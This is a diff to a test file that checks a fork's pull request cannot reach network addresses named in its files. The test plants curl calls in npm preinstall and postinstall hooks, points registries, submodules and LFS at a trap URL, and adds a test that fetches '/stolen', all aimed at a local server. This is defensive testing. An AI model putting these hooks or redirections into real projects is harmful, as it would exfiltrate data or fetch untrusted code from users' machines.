@@ -1,3 +1,6 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { target } from '../../../packages/github-simulator/test/github/bench.ts'
 import { type ActionBench, openActionBench, type WorkflowRun, writesOf } from './action-bench.ts'
@@ -125,6 +128,47 @@ test('looks', () => { throw new Error('seen actions-token ' + JSON.stringify(pro
       /could not be written: POST \S+: 403 Resource not accessible.*from a fork/,
     )
     expect(run.annotations[1]).toMatchObject({ level: 'error' })
+  })
+
+  it.each([
+    ['by its tests', false],
+    ['by what it installs', true],
+  ])('from a fork reaches no address that it names, %s', async (_, installs) => {
+    const trap = createServer((_request, response) => response.end('{}')).listen(0, '127.0.0.1')
+    await once(trap, 'listening')
+    const reached: string[] = []
+    trap.on('connection', ({ remotePort }) => reached.push(`${remotePort}`))
+    try {
+      const { port } = trap.address() as AddressInfo
+      const url = `http://127.0.0.1:${port}`
+      const scripts = { preinstall: `curl ${url}`, postinstall: `curl ${url}`, test: 'node --test' }
+      const dependencies = { 'left-pad': `${url}/left-pad.tgz` }
+      const manifest = JSON.stringify({ name: 'toolbox', type: 'module', scripts, dependencies })
+      const named: Files = {
+        ...right,
+        '.github/executor.yml': `base-url: ${url}/v1\nverify:\n  network: true\n  registries: [${url}]\nsandbox: off\n`,
+        '.yarnrc.yml': `npmRegistryServer: "${url}"\n`,
+        'pip.conf': `[global]\nindex-url = ${url}/simple\n`,
+        '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ${url}/x.git\n`,
+        '.lfsconfig': `[lfs]\n\turl = ${url}/lfs\n`,
+        '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n',
+        'a.bin': `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 9\n`,
+        'test/reach.test.js': `import { test } from 'node:test'\ntest('reaches', () => fetch('${url}/stolen'))\n`,
+        ...(installs && {
+          'package.json': manifest,
+          '.npmrc': `registry=${url}/\nfetch-retries=0\n`,
+        }),
+      }
+      const run = await check(await propose(named, { from: 4711 }))
+      expect(run.exitCode).toBe(1)
+      expect(run.summary).toContain(installs ? 'npm install failed' : 'reaches: fetch failed')
+      expect(reached).toEqual([])
+      await fetch(url)
+      expect(reached).toHaveLength(1)
+    } finally {
+      trap.close()
+      trap.closeAllConnections()
+    }
   })
 
   it('without the permission names it, and ends by the verdict', async () => {
